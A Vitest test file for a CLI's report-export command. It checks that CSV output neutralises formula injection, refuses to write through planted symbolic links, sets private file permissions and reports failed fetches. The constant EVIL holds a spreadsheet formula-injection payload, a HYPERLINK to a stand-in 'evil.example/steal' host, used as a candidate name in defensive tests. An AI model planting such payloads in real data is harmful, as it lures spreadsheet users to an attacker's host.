import { readFileSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { basename, dirname, join } from "node:path";
import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import type { Invitation } from "../../src/sandbox/index.js";
import { ndjson, useTempDir, useTestEnv } from "../helpers/cli.js";

const EVIL = '=HYPERLINK("http://evil.example/steal?x=1","Click me")';

const t = useTestEnv();
const tmp = useTempDir("assess-export-");
let evilId: number;
let plainId: number;
beforeAll(async () => {
  const invite = async (email: string, name: string) => {
    const r = await t.run(["invite", "send", "--test", "1001", "--email", email, "--name", name, "--json"]);
    expect(r.code, r.stderr).toBe(0);
    const id = r.json<{ testInvitationId: number }>().testInvitationId;
    await t.sandbox.completeAttempt(id, "Complete");
    return id;
  };
  evilId = await invite("mallory@example.com", EVIL);
  plainId = await invite("tomas@example.com", "Tomás Ñúñez, Jr.");
});

/** Ground truth from the sandbox's own store: the account's finished attempts completed in [from, to]. */
function finishedBetween(from: string, to: string, testId?: number): Invitation[] {
  const [a, b] = [Date.parse(from), Date.parse(to)];
  return t.sandbox.state.invitations.filter((inv) => {
    const done = inv.completedAt ? Date.parse(inv.completedAt) : Number.NaN;
    return (
      inv.accountId === "acme" &&
      ["Complete", "TestLeft", "Terminated"].includes(inv.status) &&
      done >= a &&
      done <= b &&
      (testId === undefined || inv.testId === testId)
    );
  });
}

const PERIOD = ["--from", "2d", "--to", "+1d"];
/** A UTC day relative to today, inside the sandbox's six seeded months. */
const dayOf = (offset: number) => new Date(Date.now() + offset * 86_400_000).toISOString().slice(0, 10);

describe("reports export", () => {
  it("-o csv neutralises a candidate named like a formula, and quotes what needs quoting", async () => {
    const r = await t.run(["reports", "export", ...PERIOD, "--test", "1001", "-o", "csv"]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain(`"'=HYPERLINK(""http://evil.example/steal?x=1"",""Click me"")"`);
    const rows = parse(r.stdout, { columns: true }) as Array<Record<string, string>>;
    const evil = rows.find((row) => row["Invitation ID"] === String(evilId));
    expect(evil?.Candidate).toBe(`'${EVIL}`);
    expect(rows.find((row) => row["Invitation ID"] === String(plainId))?.Candidate).toBe("Tomás Ñúñez, Jr.");
    // No cell of the export starts a formula.
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
  });

  it("--out file.csv writes a spreadsheet-ready file (BOM, CRLF, one flat row per attempt with section columns)", async () => {
    const file = tmp.file("export.csv");
    const r = await t.run(["reports", "export", ...PERIOD, "--test", "1001", "--out", file]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toBe("");
    const text = readFileSync(file, "utf8");
    expect(
      text.startsWith(
        "\uFEFFInvitation ID,Candidate,Email,Test ID,Test,Status,Score %,Points,Out of,Performance,Attempted on,Section: ",
      ),
    ).toBe(true);
    expect(text).toContain("\r\n");
    const rows = parse(text, { columns: true, bom: true }) as Array<Record<string, string>>;
    const truth = finishedBetween(
      new Date(Date.now() - 2 * 86_400_000).toISOString(),
      new Date(Date.now() + 86_400_000).toISOString(),
      1001,
    );
    expect(rows.map((row) => Number(row["Invitation ID"])).sort()).toEqual(
      truth.map((inv) => inv.testInvitationId).sort(),
    );
    const evil = rows.find((row) => row["Invitation ID"] === String(evilId))!;
    expect(evil.Candidate).toBe(`'${EVIL}`);
    expect(evil).toMatchObject({
      Email: "mallory@example.com",
      "Test ID": "1001",
      Test: "JavaScript Fundamentals",
      Status: "Complete",
    });
    expect(Number(evil["Score %"])).toBeGreaterThanOrEqual(0);
    expect(Object.keys(evil).filter((k) => k.startsWith("Section: "))).toEqual([
      "Section: Language Basics",
      "Section: Functions and Scope",
      "Section: Asynchronous Programming",
      "Section: Coding Challenge",
    ]);
    expect(r.stderr).toContain(`Exported ${rows.length} attempts to ${file}`);

    // An existing file is not overwritten without --force, and nothing is sent.
    const before = t.sandbox.requests.length;
    const again = await t.run(["reports", "export", ...PERIOD, "--out", file]);
    expect(again.code).toBe(2);
    expect(again.stderr).toContain("already exists");
    expect(t.sandbox.requests.length).toBe(before);
    expect((await t.run(["reports", "export", ...PERIOD, "--out", file, "--force"])).code).toBe(0);
  });

  it("--out never writes through a link planted at its temporary file's name (the name is not guessable, the file new)", async () => {
    const file = tmp.file("planted.csv");
    const victim = tmp.file("victim.txt");
    writeFileSync(victim, "keep me");
    // The name the temporary file had when it was `.<name>.<pid>.tmp` (main() runs in this process).
    symlinkSync(victim, join(dirname(file), `.${basename(file)}.${process.pid}.tmp`));
    const r = await t.run(["reports", "export", ...PERIOD, "--test", "1001", "--out", file]);
    expect(r.code, r.stderr).toBe(0);
    expect(readFileSync(victim, "utf8")).toBe("keep me");
    expect(readFileSync(file, "utf8").startsWith("\uFEFFInvitation ID,")).toBe(true);
  });

  it("--out is the same kind of file as pdf and settings pull write: checked before anything is sent, 0600", async () => {
    // A folder that does not exist: refused before the first request, not after every report was fetched.
    const before = t.sandbox.requests.length;
    const missing = join(tmp.file("no-such-folder"), "export.csv");
    const r = await t.run(["reports", "export", ...PERIOD, "--out", missing]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`the folder ${dirname(missing)} does not exist`);
    // A link at the target is not written through, nor taken for the file it points at.
    const linked = tmp.file("linked.csv");
    const victim = tmp.file("linked-victim.csv");
    writeFileSync(victim, "keep me");
    symlinkSync(victim, linked);
    const l = await t.run(["reports", "export", ...PERIOD, "--out", linked]);
    expect(l.code).toBe(2);
    expect(l.stderr).toContain("is a symbolic link");
    expect(t.sandbox.requests.length).toBe(before);
    expect(readFileSync(victim, "utf8")).toBe("keep me");

    // Candidates' names, e-mails and scores: the file is the user's alone, as the PDF reports are.
    const file = tmp.file("private.csv");
    const ok = await t.run(["reports", "export", ...PERIOD, "--test", "1001", "--out", file]);
    expect(ok.code, ok.stderr).toBe(0);
    expect(statSync(file).mode & 0o777).toBe(0o600);
  });

  it("exports months of attempts: every finished attempt of the period, each report fetched once", async () => {
    const before = t.sandbox.requests.length;
    const [from, to] = [dayOf(-120), dayOf(-120 + 94)];
    const r = await t.run(["reports", "export", "--from", from, "--to", to, "-o", "ndjson"]);
    expect(r.code, r.stderr).toBe(0);
    const rows = ndjson(r.stdout);
    const truth = finishedBetween(`${from}T00:00:00Z`, `${to}T23:59:59Z`);
    expect(truth.length).toBeGreaterThan(20);
    expect(rows.map((row) => row.testInvitationId).sort()).toEqual(
      truth.map((inv) => inv.testInvitationId).sort(),
    );
    const sent = t.sandbox.requests.slice(before);
    expect(sent.filter((q) => q.path === "/v3/candidates/testattempts")).toHaveLength(4);
    expect(sent.filter((q) => q.path.startsWith("/v3/reports/"))).toHaveLength(truth.length);
    const sample = rows[0]!;
    expect(Object.keys(sample)).toEqual(
      expect.arrayContaining(["candidateName", "scorePercentage", "candidatePoints", "performanceCategory"]),
    );
  });

  it("a report that keeps failing is listed on stderr, not dropped silently (exit 3)", async () => {
    t.sandbox.faults.add({
      method: "GET",
      path: `/v3/reports/${plainId}`,
      kind: "status",
      status: 500,
      times: Number.POSITIVE_INFINITY,
    });
    try {
      const r = await t.run(["reports", "export", ...PERIOD, "--test", "1001", "--json", "--retries", "1"]);
      expect(r.code).toBe(3);
      const rows = r.json<Array<{ testInvitationId: number }>>();
      expect(rows.map((row) => row.testInvitationId)).toContain(evilId);
      expect(rows.map((row) => row.testInvitationId)).not.toContain(plainId);
      expect(r.stderr).toMatch(new RegExp(`1 report\\(s\\) could not be fetched:\\n\\s+${plainId}: `));
    } finally {
      t.sandbox.faults.clear();
    }
  });

  it("another account's test is refused (exit 4)", async () => {
    const r = await t.run(["reports", "export", ...PERIOD, "--test", "2001"]);
    expect(r.code).toBe(4);
  });

  it("lists every missing bound at once (exit 2, nothing sent)", async () => {
    const before = t.sandbox.requests.length;
    const r = await t.run(["reports", "export"]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("Missing --from, --to");
    expect(t.sandbox.requests.length).toBe(before);
  });
});
